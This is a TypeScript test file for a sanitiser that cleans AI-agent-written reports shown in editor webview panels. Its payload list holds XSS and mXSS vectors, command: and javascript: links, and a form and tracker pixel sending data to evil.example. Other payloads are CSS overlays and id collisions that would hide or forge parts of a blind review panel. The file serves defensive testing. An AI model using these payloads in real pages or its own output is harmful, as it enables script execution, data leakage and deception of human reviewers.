/**
 * The agent-content sanitiser (issue 38, `webview/shared/agent-html.ts`) against hostile payloads an agent can write
 * into a report, an observation or an insight: nothing that styles, restyles, navigates, fetches, runs, takes the
 * panel's ids/classes, or submits survives. Each payload is also checked against DOMPurify's default profile (what
 * the panels used before): the checks must find a problem there for most of them, so they can fail.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import DOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { marked } from 'marked';
import { AGENT_ATTRS, AGENT_TAGS, createAgentSanitizer, DATA_IMAGE } from '../../../webview/shared/agent-html.ts';

const { window } = new JSDOM('<!DOCTYPE html><body><div id="side-b" class="rv-cell right">the other side</div></body>');
const san = createAgentSanitizer(window as never);
const PNG =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Hostile HTML (a report's raw HTML, or Markdown with HTML in it), with what it tries. */
const PAYLOADS: Array<[string, string]> = [
  ['style element hides the page', '<p>Summary</p><style>body{display:none}</style>'],
  ['style element hides the other side', 'Results <style>.side-b, .rv-cell.right, #side-b {visibility:hidden}</style>'],
  ['leading style element', '<style>*{color:red}</style><p>ok</p>'],
  [
    'style attribute overlay',
    '<div style="position:fixed;inset:0;z-index:99999;background:#1e1e1e">Output B: nothing here</div>',
  ],
  [
    'style attribute on a span',
    '<span style="display:block;position:absolute;top:0;left:0;width:100vw;height:100vh">x</span>',
  ],
  [
    'form posting away',
    '<form action="https://evil.example/collect" method="post"><input name="vote" value="a"><button>Vote</button></form>',
  ],
  [
    'form controls',
    '<input type="text" value="x"><textarea>t</textarea><select><option>a</option></select><button onclick="x()">b</button>',
  ],
  ['img onerror', '<img src=x onerror="alert(1)">'],
  ['img fetching a tracker', '<img src="https://evil.example/pixel.png?who=reviewer" alt="fig">'],
  ['img srcset', `<img src="${PNG}" srcset="https://evil.example/a.png 2x" sizes="100vw">`],
  ['command link', '<a href="command:workbench.action.terminal.new">open</a>'],
  ['command link in Markdown', '[click](command:loupe.openRunWorkspace)'],
  ['https link with target', '<a href="https://evil.example" target="_blank" rel="opener">read more</a>'],
  ['javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['autolink', '<https://evil.example/x>'],
  ['panel id collision', '<h2 id="side-b">Output B</h2><p id="head-right">forged</p><span id="vote">v</span>'],
  [
    'panel class collision',
    '<div class="rv-cell right side-head revealed">Output B: writer-b</div><p class="muted blind">x</p>',
  ],
  ['name clobbering', '<img name="getElementById"><form name="body"></form><a name="location">x</a>'],
  [
    'link and meta and base',
    '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  ],
  [
    'iframe object embed',
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">',
  ],
  [
    'svg with style',
    '<svg><style>body{display:none}</style><foreignObject><div style="position:fixed">x</div></foreignObject></svg>',
  ],
  ['svg image', '<svg width="5000" height="5000"><image href="https://evil.example/x.png"/></svg>'],
  ['math mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['details open trick', '<details open><summary>Output B</summary><div style="height:9999px">x</div></details>'],
  ['template', '<template><style>body{display:none}</style></template>'],
  ['video poster', '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>'],
  [
    'presentational attributes',
    '<table width="100000" bgcolor="red" border="90"><tr><td height="9000" background="https://evil.example/b.png">x</td></tr></table>',
  ],
  ['custom element', '<vscode-button id="submit">Submit vote</vscode-button>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['data URI that is not an image', '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
  ['svg data URI image', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">'],
  ['aria and data attributes', '<p aria-hidden="true" data-side="right" data-vote="left">x</p>'],
];

const ALLOWED_TAGS = new Set(AGENT_TAGS.map((t) => t.toUpperCase()));
const ALLOWED_ATTRS = new Set(AGENT_ATTRS);

/** What is still hostile in a rendered fragment ([] when nothing). */
function problems(root: ParentNode, classes: readonly string[] = []): string[] {
  const out: string[] = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toUpperCase();
    if (!ALLOWED_TAGS.has(tag)) out.push(`element <${el.tagName.toLowerCase()}>`);
    for (const a of el.attributes) {
      const n = a.name.toLowerCase();
      if (!ALLOWED_ATTRS.has(n)) out.push(`attribute ${n} on <${el.tagName.toLowerCase()}>`);
      else if (n === 'class') {
        for (const c of a.value.split(/\s+/).filter(Boolean)) {
          if (!classes.includes(c) && c !== 'agent-image-ref') out.push(`class ${c}`);
        }
      } else if (n === 'src' && !DATA_IMAGE.test(a.value)) out.push(`src ${a.value.slice(0, 40)}`);
    }
  }
  const text = root.textContent ?? '';
  if (/[{;]\s*(display|visibility|position)\s*:/i.test(text)) out.push('CSS rules kept as text');
  return out;
}

const fragmentOf = (html: string) => {
  const tpl = window.document.createElement('template');
  tpl.innerHTML = html;
  return tpl.content;
};

describe('agent content sanitiser', () => {
  for (const [what, payload] of PAYLOADS) {
    it(`contains: ${what}`, () => {
      const asHtml = san.fragment(payload);
      assert.deepEqual(problems(asHtml), [], `${what}: ${san.html(payload)}`);
      const asMarkdown = san.markdown(payload);
      assert.deepEqual(
        problems(asMarkdown),
        [],
        `${what} (as Markdown): ${new window.XMLSerializer().serializeToString(asMarkdown)}`,
      );
    });
  }

  it("the checks can fail: DOMPurify's default profile (what the panels used) leaves most payloads hostile", () => {
    const purify = DOMPurify(window as never);
    const hostile = PAYLOADS.filter(
      ([, p]) => problems(fragmentOf(purify.sanitize(marked.parse(p, { async: false }) as string))).length > 0,
    ).map(([w]) => w);
    assert.ok(
      hostile.length >= PAYLOADS.length * 0.66,
      `only ${hostile.length} of ${PAYLOADS.length} payloads are hostile under the default profile: ${hostile.join('; ')}`,
    );
    for (const w of [
      'style element hides the page',
      'style element hides the other side',
      'style attribute overlay',
      'details open trick',
      'form posting away',
      'panel id collision',
      'panel class collision',
      'img fetching a tracker',
      'https link with target',
    ]) {
      assert.ok(hostile.includes(w), `${w} passes DOMPurify's default`);
    }
  });

  it('keeps what a report needs: headings, lists, tables, code, emphasis, embedded figures, link text', () => {
    const md =
      '# Obesity\n\nAdult obesity was **40.3%** (_weighted_), see [CDC](https://www.cdc.gov/obesity).\n\n| sex | % |\n|---|---|\n| men | 39.2 |\n\n```python\nprint(1)\n```\n\n- a\n- b\n\n![prevalence](' +
      PNG +
      ')\n\n![chart](figures/a.png)\n\nH<sub>2</sub>O';
    const f = san.markdown(md);
    assert.deepEqual(problems(f), []);
    const div = window.document.createElement('div');
    div.append(f);
    assert.equal(div.querySelector('h1')?.textContent, 'Obesity');
    assert.equal(div.querySelector('strong')?.textContent, '40.3%');
    assert.equal(div.querySelectorAll('td').length, 2);
    assert.equal(div.querySelector('pre code')?.textContent, 'print(1)\n');
    assert.equal(div.querySelectorAll('li').length, 2);
    assert.equal(div.querySelector('img')?.getAttribute('src'), PNG, 'a data: figure is shown');
    assert.equal(
      div.querySelector('.agent-image-ref')?.textContent,
      '[image: chart]',
      'a file figure becomes text, nothing fetched',
    );
    const a = div.querySelector('a')!;
    assert.equal(a.textContent, 'CDC');
    assert.equal(a.getAttribute('href'), null, 'links are inert');
    assert.match(a.title, /link not followed: https:\/\/www\.cdc\.gov\/obesity/);
    assert.equal(div.querySelector('sub')?.textContent, '2');
    const t = window.document.createElement('div');
    t.append(
      san.fragment(
        '<table><tr><td colspan="2" rowspan="3" width="900">x</td></tr></table><ol start="4"><li>d</li></ol>',
      ),
    );
    assert.equal(t.querySelector('td')?.getAttribute('colspan'), '2', 'table spans are kept');
    assert.equal(t.querySelector('td')?.getAttribute('rowspan'), '3');
    assert.equal(t.querySelector('td')?.getAttribute('width'), null, 'presentational attributes are not');
    assert.equal(t.querySelector('ol')?.getAttribute('start'), '4');
  });

  it("keeps only the classes the caller names (the review's number markers), and their data attributes", () => {
    const html =
      '<p>Obesity <span class="loupe-num evil" data-num="L0">40.3%</span> <span class="side-head" data-x="1">x</span></p>';
    const div = window.document.createElement('div');
    div.append(san.fragment(html, { classes: ['loupe-num'] }));
    assert.equal(div.querySelector('span')?.className, 'loupe-num');
    assert.equal(div.querySelector('span')?.dataset.num, 'L0');
    assert.equal(div.querySelectorAll('[class]').length, 1);
    assert.equal(div.querySelector('[data-x]'), null);
    assert.deepEqual(problems(san.fragment(html)), [], 'without classes named, none is kept');
  });

  it('the text of dropped elements: CSS and scripts go, the words of a form or a details stay readable', () => {
    const div = window.document.createElement('div');
    div.append(
      san.fragment(
        '<details><summary>Method</summary>weighted</details><form>Vote A<button>now</button></form><style>p{}</style><script>x=1</script>',
      ),
    );
    assert.equal(div.textContent, 'MethodweightedVote Anow');
    assert.equal(
      window.document.getElementById('side-b')?.textContent,
      'the other side',
      'the host document is untouched',
    );
  });
});
